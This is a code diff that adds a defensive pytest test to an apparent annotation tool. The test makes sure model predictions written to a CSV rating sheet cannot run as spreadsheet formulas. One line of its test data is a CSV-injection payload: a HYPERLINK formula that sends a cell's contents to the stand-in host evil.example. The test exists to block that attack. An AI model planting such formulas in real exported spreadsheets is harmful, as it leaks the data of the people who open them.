@@ -2,6 +2,7 @@
 
 import csv
 import json
+import re
 
 import pytest
 
@@ -114,3 +115,28 @@ def test_label_spellings(raw, out):
 def test_unknown_label_spelling():
     with pytest.raises(BadInput, match="line 7"):
         normalise_label("ok", "line 7")
+
+
+def test_model_text_never_becomes_a_spreadsheet_formula_and_the_sheet_still_imports(tmp_path, db):
+    """A prediction is untrusted text: one starting with = + - @ would run as a formula (or turn into
+    a number) when a rater opens the sheet. The sheet writes it with a leading apostrophe; the
+    import takes it off, and also accepts the sheet as a spreadsheet saves it (apostrophe dropped)."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-0.50", "@SUM(1+1)", "'quoted'", "plain"]
+    src = tmp_path / "t.jsonl"
+    src.write_text("".join(json.dumps({"question": f"q{i}", "answer": "a", "prediction": p}) + "\n"
+                           for i, p in enumerate(hostile)))
+    sample_items(db, len(hostile), input_path=src, name="s")
+    sheet = tmp_path / "s.csv"
+    write_sheet(db, "s", sheet)
+    cells = [r["prediction"] for r in csv.DictReader(sheet.open(newline=""))]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert sorted(cells) == sorted(["'" + p if p[0] in "=+-@" else p for p in hostile])
+    as_saved = tmp_path / "saved.csv"          # what a spreadsheet writes back: the apostrophes gone
+    as_saved.write_text(re.sub(r",'(?=[=+\-@])", ",", sheet.read_text()))
+    for who, f in (("ann", sheet), ("bob", as_saved)):
+        filled = tmp_path / f"{who}.csv"
+        _fill(f, filled, ["y"] * len(hostile))
+        assert import_labels(db, filled, rater=who).imported == len(hostile)
+    stored = {r[0] for r in db.execute("SELECT t.prediction FROM human_labels h JOIN triples t "
+                                       "ON t.hash = h.triple_hash")}
+    assert stored == set(hostile)
